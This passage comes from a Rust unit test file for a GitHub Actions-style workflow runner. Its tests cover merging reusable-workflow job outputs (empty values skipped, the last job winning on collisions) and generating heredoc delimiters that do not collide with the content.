    let merged = aggregate_reusable_workflow_outputs(&job_outputs);
    assert_eq!(get(&merged, "artifact"), Some("build.tar"));
    assert_eq!(get(&merged, "coverage"), Some("92%"));
}

#[test]
fn aggregate_reusable_workflow_outputs_skips_empty_values() {
    let job_outputs = nested(&[("job", &[("key", ""), ("real", "value")])]);
    let merged = aggregate_reusable_workflow_outputs(&job_outputs);
    assert!(!merged.contains_key("key"));
    assert_eq!(get(&merged, "real"), Some("value"));
}

#[test]
fn aggregate_reusable_workflow_outputs_last_job_wins_on_collision() {
    let job_outputs = nested(&[("alpha", &[("result", "from-alpha")]), ("beta", &[("result", "from-beta")])]);
    let merged = aggregate_reusable_workflow_outputs(&job_outputs);
    assert_eq!(get(&merged, "result"), Some("from-beta"));
}

#[test]
fn aggregate_reusable_workflow_outputs_empty_input() {
    let merged = aggregate_reusable_workflow_outputs(&StrMap::new());
    assert_eq!(merged.len(), 0);
}

#[test]
fn generate_heredoc_delimiter_avoids_collisions() {
    let delim = generate_heredoc_delimiter("hello\nworld");
    assert_eq!(delim, "ghadelimiter");

    let delim = generate_heredoc_delimiter("line1\nghadelimiter\nline2");
    assert_eq!(delim, "ghadelimiter_1");

    let delim = generate_heredoc_delimiter("ghadelimiter\nghadelimiter_1\nother");
    assert_eq!(delim, "ghadelimiter_2");
}
